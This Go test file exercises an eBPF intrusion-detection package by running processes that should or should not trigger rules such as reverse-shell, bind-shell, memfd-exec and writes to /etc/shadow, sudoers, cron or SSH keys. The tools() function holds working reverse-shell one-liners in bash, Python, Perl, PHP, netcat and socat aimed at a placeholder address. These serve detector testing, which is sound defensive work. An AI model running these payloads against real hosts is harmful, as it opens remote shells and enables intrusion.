package detect

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/shunt-lb/shunt/internal/guard/rule"
	"github.com/shunt-lb/shunt/internal/lab"
)

// toolArguments is the variable with the arguments of the process "tool", and \x01 between them.
const toolArguments = "SHUNT_DETECT_ARGUMENTS"

// trial is a deed of a process, and the rule that has to find it, once, or must not.
type trial struct {
	rule string // of a control: the rule that must not find it; "": none at all
	do   string
	as   string // name of the program
	fire bool

	program   string   // a program of the machine instead
	arguments []string // with it
}

func fires(name, do string) trial       { return trial{rule: name, do: do, as: "intruder", fire: true} }
func control(name, as, do string) trial { return trial{rule: name, do: do, as: as} }
func (t trial) String() string {
	return strings.TrimSpace(fmt.Sprintf("%s: %s %s %s", t.rule, t.as, t.do, t.program))
}

// file has trials of a file that nobody but a program may open to write, or to read. Without the program, the control
// is elsewhere.
func file(how, name, path, as string) []trial {
	all := []trial{fires(name, how+" "+path)}
	if as != "" {
		all = append(all, control(name, as, how+" "+path))
	}
	return all
}

// trials of each built-in rule: a deed that it finds, and a harmless relative of it.
func trials() []trial {
	return slices.Concat([]trial{
		fires("reverse-shell", "shell "+farAddress+" connected sh"),
		fires("reverse-shell", "shell "+farAddress+" late sh"),
		fires("reverse-shell", "shell "+farAddress+" ring sh"),
		control("reverse-shell", "client", "connect "+farAddress+" 9"),
		control("reverse-shell", "debugged", "shell 127.0.0.1 connected sh"),
		control("reverse-shell", "inetd", "serve daytime"),
		fires("reverse-shell-relay", "shell "+farAddress+" relay sh"),
		control("reverse-shell-relay", "supervisor", "shell "+farAddress+" unconnected sh"),
		control("reverse-shell-relay", "supervisor", "shell "+farAddress+" relay worker"),
		fires("bind-shell", "serve sh"),
		fires("bind-shell", "hand sh"),
		control("bind-shell", "inetd", "serve daytime"),
		control("", "inetd", "serve daytime"),
		control("", "sshd", "login sh"),
		fires("connect-with-low-socket", "connect "+farAddress+" 2"),
		control("connect-with-low-socket", "client", "connect "+farAddress+" 9"),
		fires("memfd-exec", "detached memfd"),
		control("memfd-exec", "installer", "execute /mnt/x nothing"),
		fires("deleted-exec", "detached file"),
		control("deleted-exec", "installer", "execute /mnt/x nothing"),
		fires("shared-memory-exec", "execute /dev/shm/shunt-detect nothing"),
		control("shared-memory-exec", "installer", "execute /mnt/x nothing"),
		fires("temporary-exec", "execute /tmp/shunt-detect nothing"),
		control("temporary-exec", "installer", "execute /mnt/x nothing"),
		fires("hidden-exec", "execute /mnt/.x nothing"),
		control("hidden-exec", "installer", "execute /mnt/x nothing"),
		{rule: "shell-by-server", as: "nginx", do: "execute /mnt/sh nothing", fire: true},
		control("shell-by-server", "crond", "execute /mnt/sh nothing"),
		fires("becomes-root", "nobody become 0"),
		control("becomes-root", "service", "become 65534"),
		fires("setuid-program", "setuid /mnt/tool bit"),
		control("setuid-program", "installer", "setuid /mnt/tool none"),
		fires("setuid-shell", "setuid /mnt/bash bit"),
		control("setuid-shell", "installer", "setuid /mnt/bash none"),
		fires("ptrace-attach", "trace"),
		control("ptrace-attach", "gdb", "trace"),
		fires("memory-write", "poke child"),
		control("memory-write", "itself", "poke self"),
		fires("proc-memory-write", "memory"),
		control("proc-memory-write", "gdb", "memory"),
		fires("mount-over-process", "mount /proc/PID"),
		control("mount-over-process", "mount", "mount /mnt/x"),
		fires("mount-over-programs", "mount /etc"),
		control("mount-over-programs", "mount", "mount /etc"),
		fires("bpf-load", "bpf 5"),
		control("bpf-load", "reader", "bpf 0"),
		fires("metadata-service", "connect "+metaAddress+" 9"),
		control("metadata-service", "client", "connect "+farAddress+" 9"),
	},
		file("write", "kernel-hook-write", "/mnt/release_agent", "systemd"), file("write", "disk-write", "/dev/sda1", "fsck"), file("read", "kernel-memory", "/dev/mem", ""),
		file("write", "account-write", "/etc/passwd", "useradd"), file("read", "password-read", "/etc/shadow", "sshd"), file("write", "sudoers-write", "/etc/sudoers.d/x", "visudo"),
		file("write", "cron-write", "/var/spool/cron/crontabs/root", "crontab"), file("write", "service-write", "/etc/systemd/system/x.service", "systemctl"),
		file("write", "profile-write", "/root/.bashrc", "useradd"), file("write", "ssh-keys-write", "/root/.ssh/authorized_keys", ""), file("read", "private-key-read", "/root/.ssh/id_ed25519", "ssh"),
		file("write", "preload-write", "/etc/ld.so.preload", ""), file("write", "login-module-write", "/etc/pam.d/sshd", "dpkg"), file("write", "log-write", "/var/log/wtmp", "login"),
		file("write", "history-write", "/root/.bash_history", "bash"),
		// Files deeper in the folders that rules name.
		file("write", "service-write", "/etc/systemd/system/x.service.d/y.conf", "systemctl"), file("write", "cron-write", "/etc/cron.hourly/x", "dpkg"), file("write", "preload-write", "/etc/ld.so.conf.d/x.conf", ""),
		[]trial{control("kernel-memory", "reader", "read /dev/other"), control("ssh-keys-write", "reader", "read /root/.ssh/authorized_keys"), control("preload-write", "reader", "read /etc/ld.so.preload")},
	)
}

// tools of the machine that give somebody a shell, and some that connect and do not. Those that are not installed are left out.
func tools() (all []trial) {
	const to = farAddress + "/4444"
	const python = `import os,socket,subprocess as p
s=socket.socket();s.connect(("` + farAddress + `",4444))
[os.dup2(s.fileno(),i) for i in (0,1,2)]
p.call(["/bin/sh"])`
	for _, t := range []trial{
		{program: "bash", arguments: []string{"-c", "bash -i >& /dev/tcp/" + to + " 0>&1"}, rule: "reverse-shell", fire: true},
		{program: "python3", arguments: []string{"-c", python}, rule: "reverse-shell", fire: true},
		{program: "perl", arguments: []string{"-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("` + farAddress + `")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh");`}, rule: "reverse-shell", fire: true},
		{program: "php", arguments: []string{"-r", `$s=fsockopen("` + farAddress + `",4444);proc_open("/bin/sh",[$s,$s,$s],$p);`}, rule: "reverse-shell", fire: true},
		{program: "nc.traditional", arguments: []string{"-e", "/bin/sh", farAddress, "4444"}, rule: "reverse-shell", fire: true},
		{program: "socat", arguments: []string{"TCP:" + farAddress + ":4444", "EXEC:/bin/sh"}, rule: "reverse-shell-relay", fire: true},
		{program: "socat", arguments: []string{"TCP:" + farAddress + ":4444", "EXEC:/bin/sh,nofork"}, rule: "reverse-shell", fire: true},
		{program: "curl", arguments: []string{"-s", "--http0.9", "-m", "5", "http://" + farAddress + ":4444/"}},
		{program: "bash", arguments: []string{"-c", "exec 9<>/dev/tcp/" + to + "; read -u 9 x; echo $x | cat >&9"}},
	} {
		path := "/usr/bin/" + t.program
		if _, err := os.Stat(path); err != nil {
			continue
		}
		t.program, t.do = path, "tool "+path
		all = append(all, t)
	}
	return all
}

// watched is a Watch at work on a cgroup.
type watched struct {
	t      *testing.T
	folder string
	self   string // a copy of the test's binary, in no folder for temporary files
	mutex  sync.Mutex
	found  map[uint64]map[string][]Found // by cgroup and rule
}

// start runs the test's binary in a cgroup of its own below the folder, and in new namespaces.
func (w *watched) start(number int, tr trial) (*exec.Cmd, uint64) {
	w.t.Helper()
	folder := filepath.Join(w.folder, fmt.Sprint(number))
	if err := os.Mkdir(folder, 0o755); err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() { removeSoon(w.t, folder) })
	group, err := os.Open(folder)
	if err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() { _ = group.Close() })
	only, err := scopeOf(folder)
	if err != nil {
		w.t.Fatal(err)
	}
	c := exec.Command(w.self)
	do := "as " + tr.as + " " + tr.do
	if tr.program != "" {
		do = tr.do
	}
	c.Env = []string{doing + "=" + do, toolArguments + "=" + strings.Join(tr.arguments, "\x01")}
	c.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(group.Fd()), Cloneflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWNET, Pdeathsig: syscall.SIGKILL}
	return c, only.id
}

// copyOfSelf is a copy of the test's binary in a folder for programs.
func copyOfSelf(t *testing.T) string {
	t.Helper()
	if err := os.MkdirAll("/var/lib", 0o755); err != nil { // a virtual machine may have none
		t.Fatal(err)
	}
	folder, err := os.MkdirTemp("/var/lib", "shunt-detect-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := os.RemoveAll(folder); err != nil {
			t.Error(err)
		}
	})
	path := filepath.Join(folder, "detect-trial")
	if err := copyTo(path); err != nil {
		t.Fatal(err)
	}
	return path
}

// removeSoon removes a cgroup as soon as its last process has gone.
func removeSoon(t *testing.T, folder string) {
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		err := os.Remove(folder)
		if err == nil {
			return
		}
		if time.Now().After(end) {
			t.Errorf("remove the cgroup: %v", err)
			return
		}
	}
}

func (w *watched) tell(f Found) error {
	w.mutex.Lock()
	defer w.mutex.Unlock()
	of := w.found[f.Event.CgroupID]
	if of == nil {
		of = map[string][]Found{}
		w.found[f.Event.CgroupID] = of
	}
	of[f.Rule] = append(of[f.Rule], f)
	return nil
}

// own are rules that act, about processes of this test.
func own(t *testing.T) (rules []rule.Rule) {
	for _, action := range []string{rule.Kill, rule.Stop} {
		r := rule.Rule{Name: "to-" + action, On: []string{rule.Exec}, If: `process.name == "to-` + action + `"`, Severity: "low", Action: action, Tell: "{process.name}"}
		if _, err := r.Prepare(); err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	return rules
}

// TestRules has processes do the deed of each built-in rule, and a harmless relative of it.
func TestRules(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to load BPF programs")
	}
	runtime.LockOSThread() // intruders end with the thread that has started them
	defer runtime.UnlockOSThread()
	folder, remove, err := lab.MakeCgroup(fmt.Sprintf("shunt-detect-%d", os.Getpid()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := remove(); err != nil {
			t.Error(err)
		}
	})
	begin := time.Now()
	watch, err := Open(Options{Rules: append(rule.Builtin(), own(t)...), Cgroup: folder})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := watch.Close(); err != nil {
			t.Error(err)
		}
	})
	t.Logf("attached in %v", time.Since(begin).Round(time.Millisecond))
	for _, r := range watch.Sensors() {
		t.Log(r)
	}
	w := &watched{t: t, folder: folder, self: copyOfSelf(t), found: map[uint64]map[string][]Found{}}
	ctx, stop := context.WithCancel(context.Background())
	var counts Counts
	ended := make(chan error, 1)
	go func() {
		var err error
		counts, err = watch.Run(ctx, w.tell, nil)
		ended <- err
	}()
	all := append(trials(), tools()...)
	groups := make([]uint64, len(all))
	for i, tr := range all {
		var c *exec.Cmd
		if tr.as == "" {
			tr.as = "intruder"
		}
		c, groups[i] = w.start(i, tr)
		if text, err := c.CombinedOutput(); err != nil {
			t.Errorf("%v: %v: %s", tr, err, text)
		}
	}
	w.acts(len(all))
	stop()
	if err := <-ended; err != nil {
		t.Fatal(err)
	}
	t.Logf("%+v in %v", counts, time.Since(begin).Round(time.Millisecond))
	if counts.Lost > 0 || counts.Broken > 0 {
		t.Errorf("events were lost: %+v", counts)
	}
	w.judge(all, groups)
}

func (w *watched) judge(all []trial, groups []uint64) {
	tried := map[string]bool{}
	for i, tr := range all {
		found := w.found[groups[i]]
		switch {
		case tr.fire && len(found[tr.rule]) != 1:
			w.t.Errorf("%v: found %d times, want once: %v", tr, len(found[tr.rule]), found)
		case !tr.fire && tr.rule != "" && len(found[tr.rule]) > 0:
			w.t.Errorf("%v: is harmless, and is found: %v", tr, found[tr.rule])
		case !tr.fire && tr.rule == "":
			for _, r := range rule.Builtin() {
				if !r.IsOff && len(found[r.Name]) > 0 {
					w.t.Errorf("%v: is harmless, and is found: %v", tr, found[r.Name])
				}
			}
		case tr.fire && tr.program != "":
			w.t.Logf("%v", found[tr.rule][0])
		}
		tried[fmt.Sprint(tr.rule, tr.fire)] = true
	}
	for _, r := range rule.Builtin() {
		if _, here := elsewhere[r.Name]; !here && (!tried[r.Name+"true"] || !tried[r.Name+"false"]) {
			w.t.Errorf("the rule %s has no trial that it finds, or none that it does not", r.Name)
		}
	}
}

// elsewhere are rules that have a test of their own.
var elsewhere = map[string]string{"module-load": "TestModuleRule"}

// acts has the rules that act find a process that waits: it ends by a signal, or stops.
func (w *watched) acts(number int) {
	for i, action := range []string{rule.Kill, rule.Stop} {
		c, _ := w.start(number+i, trial{as: "to-" + action, do: "wait"})
		in, err := c.StdinPipe()
		if err != nil {
			w.t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			w.t.Fatal(err)
		}
		done := w.await("to-" + action)
		if want := map[string]string{rule.Kill: "killed", rule.Stop: "stopped"}[action]; done.Done != want {
			w.t.Errorf("%s: %v", action, done)
		}
		if action == rule.Stop {
			awaitState(w.t, done.Event.Process.PID, 'T')
			_ = syscall.Kill(int(done.Event.Process.PID), syscall.SIGCONT)
		}
		_ = in.Close()
		if err := c.Wait(); (err != nil) != (action == rule.Kill) { // its starter tells how it ended
			w.t.Errorf("%s: the process ended with %v", action, err)
		}
	}
}

// await is the first finding of a rule.
func (w *watched) await(name string) Found {
	w.t.Helper()
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		w.mutex.Lock()
		for _, of := range w.found {
			if len(of[name]) > 0 {
				w.mutex.Unlock()
				return of[name][0]
			}
		}
		w.mutex.Unlock()
	}
	w.t.Fatalf("the rule %s found nothing", name)
	return Found{}
}

func awaitState(t *testing.T, pid uint32, want byte) {
	t.Helper()
	var text []byte
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		text, _ = os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if i := strings.LastIndexByte(string(text), ')'); i >= 0 && len(text) > i+2 && text[i+2] == want {
			return
		}
	}
	t.Errorf("process %d is not in state %c: %s", pid, want, text)
}
